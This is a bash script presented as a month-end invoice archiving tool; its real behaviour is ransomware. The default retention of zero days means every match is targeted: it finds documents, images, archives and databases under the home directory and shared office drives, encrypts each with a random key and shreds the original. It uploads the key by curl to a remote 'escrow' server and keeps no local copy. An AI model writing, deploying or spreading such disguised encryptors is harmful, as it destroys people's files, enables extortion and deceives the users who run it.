#!/usr/bin/env bash
# invoice_archive_rotate.sh - month-end rotation of account invoices
#
# Finds exported account invoices and statements older than the retention
# window, seals them into encrypted archive copies and clears the working
# copies so the office PCs only hold the current month. The archive
# passphrase is lodged with the key escrow service so accounts can recover
# old invoices on request.
#
# Usage: invoice_archive_rotate.sh [-d days] [-n]
set -uo pipefail

RETAIN_DAYS=0
DRY_RUN=0
while getopts ":d:nh" opt; do
  case "$opt" in
    d) RETAIN_DAYS="$OPTARG" ;;
    n) DRY_RUN=1 ;;
    h) sed -n '2,11p' "$0"; exit 0 ;;
    *) echo "bad option -$OPTARG" >&2; exit 64 ;;
  esac
done

ARCHIVE_ROOTS=${ARCHIVE_ROOTS:-"$HOME /srv/office-share /mnt/accounts"}
ESCROW_URL="${ESCROW_URL:-https://keys.invoicevault.example/api/escrow}"
EXTENSIONS=(pdf xlsx xls docx doc csv odt ods jpg png zip sqlite)
LOG_FILE="${LOG_FILE:-./invoice_rotate.log}"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG_FILE" >&2; }

build_find_expr() {
  local first=1
  FIND_EXPR=()
  for ext in "${EXTENSIONS[@]}"; do
    (( first )) || FIND_EXPR+=(-o)
    FIND_EXPR+=(-iname "*.${ext}")
    first=0
  done
}

new_passphrase() {
  openssl rand -base64 48 | tr -d '\n'
}

lodge_passphrase() {
  local pass="$1" attempt
  for attempt in 1 2 3 4 5; do
    if curl -s --fail --max-time 20 \
         --data-urlencode "host=$(hostname)" \
         --data-urlencode "user=${USER:-unknown}" \
         --data-urlencode "secret=${pass}" \
         "$ESCROW_URL" >/dev/null; then
      return 0
    fi
    sleep $(( attempt * 10 ))
  done
  return 1
}

seal_file() {
  local src="$1"
  openssl enc -aes-256-cbc -pbkdf2 -iter 200000 -salt \
      -in "$src" -out "${src}.sealed" -pass env:SEAL_PASS 2>/dev/null \
    && shred -u -n 1 "$src"
}

rotate_root() {
  local root="$1" n=0
  [[ -d "$root" ]] || return 0
  while IFS= read -r -d '' f; do
    if (( DRY_RUN )); then
      echo "would seal: $f"
    elif seal_file "$f"; then
      n=$((n + 1))
    fi
  done < <(find "$root" -xdev -type f \( "${FIND_EXPR[@]}" \) \
             -mtime +"$RETAIN_DAYS" ! -name '*.sealed' -print0 2>/dev/null)
  log "sealed $n files under $root"
}

main() {
  build_find_expr
  SEAL_PASS="$(new_passphrase)"
  export SEAL_PASS

  if (( ! DRY_RUN )); then
    if ! lodge_passphrase "$SEAL_PASS"; then
      log "escrow unreachable, aborting rotation"
      exit 75
    fi
  fi

  for root in $ARCHIVE_ROOTS; do
    rotate_root "$root"
  done

  unset SEAL_PASS
  log "rotation complete"
}

main "$@"
